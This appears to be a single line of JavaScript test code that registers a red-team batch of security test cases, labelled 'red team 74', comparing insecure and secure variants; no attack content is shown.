describeNodeCases("red team 74: node user data, root Python programs (fresh eyes)", insecure, secure);
